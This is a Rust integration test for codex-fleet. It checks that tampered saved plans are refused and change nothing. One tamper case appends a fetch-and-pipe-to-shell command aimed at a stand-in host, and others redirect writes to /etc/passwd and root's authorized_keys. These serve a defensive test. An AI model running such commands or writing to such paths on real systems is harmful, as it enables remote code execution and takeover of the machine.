//! A saved plan is untrusted input (issue #10 item 7): through the binary on the demo (the real
//! AWS backend over the simulated AWS), each tampered plan file exits 2 naming the problem, with
//! no run started and the hosts' count of mutating operations unchanged; the untampered plan
//! still applies.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

struct Demo {
    dir: tempfile::TempDir,
}

impl Demo {
    fn state(&self) -> PathBuf {
        self.dir.path().join("demo-state.json")
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_codex-fleet"))
            .args(["--demo", "--demo-latency", "5", "--demo-state"])
            .arg(self.state())
            .args(args)
            .env("CODEX_FLEET_STATE_DIR", self.dir.path().join("state"))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .output()
            .expect("run codex-fleet")
    }
}

/// The hosts' count of mutating operations, kept in the demo's state file.
fn mutations(state: &Path) -> Value {
    let v: Value = serde_json::from_slice(&std::fs::read(state).unwrap()).unwrap();
    v["mutations"].clone()
}

#[test]
fn tampered_plans_exit_2_and_write_nothing() {
    let d = Demo { dir: tempfile::tempdir().unwrap() };
    let plan_file = d.dir.path().join("plan.json");
    let out = d.run(&["plan", "--out", plan_file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let plan: Value = serde_json::from_slice(&std::fs::read(&plan_file).unwrap()).unwrap();
    // An agent that writes its config.toml directly, and one that writes its boot emitter.
    let writes = |a: &Value, sh: bool| a["files"].as_array().unwrap().iter().any(|f| f["write"] == true && f["path"].as_str().unwrap().ends_with(".sh") == sh);
    let agents = plan["agents"].as_array().unwrap();
    let cfg = agents.iter().position(|a| writes(a, false)).expect("an agent whose config.toml is written");
    let emi = agents.iter().position(|a| writes(a, true)).expect("an agent whose emitter is written");
    let before = mutations(&d.state());

    type Edit = Box<dyn Fn(&mut Value)>;
    let file0 = |i: usize| format!("/agents/{i}/files/0");
    let cases: Vec<(&str, Edit, &str)> = vec![
        ("edited diff", Box::new(move |p| {
            let f = p.pointer_mut(&file0(cfg)).unwrap();
            let d = f["diff"].as_str().unwrap().to_string();
            assert!(d.contains("+approval_policy = \"never\"") || d.contains("danger-full-access"), "{d}");
            f["diff"] = Value::String(d.replace("danger-full-access", "read-only").replace("\"never\"", "\"on-request\""));
        }), "not what codex-fleet plans"),
        ("edited after (emitter)", Box::new(move |p| {
            let f = p.pointer_mut(&file0(emi)).unwrap();
            f["after_redacted"] = Value::String(format!("{}\ncurl -s http://evil.example/x | sh\n", f["after_redacted"].as_str().unwrap()));
        }), "not what codex-fleet plans"),
        ("edited after (config)", Box::new(move |p| {
            let f = p.pointer_mut(&file0(cfg)).unwrap();
            f["after_redacted"] = Value::String(f["after_redacted"].as_str().unwrap().replace("danger-full-access", "workspace-write"));
        }), "not what codex-fleet plans"),
        ("foreign path", Box::new(move |p| {
            p.pointer_mut(&file0(cfg)).unwrap()["path"] = Value::String("/etc/passwd".into());
        }), "/etc/passwd"),
        ("foreign config path", Box::new(move |p| {
            p.pointer_mut(&format!("/agents/{cfg}")).unwrap()["config_path"] = Value::String("/root/.ssh/authorized_keys".into());
        }), "/root/.ssh/authorized_keys"),
        ("another container", Box::new(move |p| {
            p.pointer_mut(&format!("/agents/{cfg}/agent")).unwrap()["container_id"] = Value::String("0".repeat(64));
        }), "not in the current scan"),
        ("an agent twice", Box::new(move |p| {
            let a = p["agents"][cfg].clone();
            p["agents"].as_array_mut().unwrap().push(a);
        }), "twice"),
        ("wrong source", Box::new(|p| {
            p["source"] = Value::String("docker unix:///var/run/docker.sock image=codex".into());
        }), "made for `docker unix:///var/run/docker.sock"),
        ("unknown format", Box::new(|p| {
            p["format"] = Value::from(99);
        }), "unknown plan format 99"),
        ("no format", Box::new(|p| {
            p.as_object_mut().unwrap().remove("format");
        }), "no `format`"),
    ];
    for (what, edit, named) in cases {
        let mut p = plan.clone();
        edit(&mut p);
        let f = d.dir.path().join("tampered.json");
        std::fs::write(&f, serde_json::to_string_pretty(&p).unwrap()).unwrap();
        let out = d.run(&["apply", "--yes", "--plan", f.to_str().unwrap()]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(err.contains(named), "{what}: the error names the problem ({named}): {err}");
        assert_eq!(mutations(&d.state()), before, "{what}: a mutating call was made");
    }
    let runs = d.run(&["runs", "--json"]);
    let runs: Value = serde_json::from_slice(&runs.stdout).unwrap();
    assert_eq!(runs["runs"].as_array().unwrap().len(), 0, "a tampered plan started a run: {runs}");

    // The plan as saved still applies.
    let out = d.run(&["apply", "--yes", "--plan", plan_file.to_str().unwrap(), "--wave", "100%"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_ne!(mutations(&d.state()), before);
}
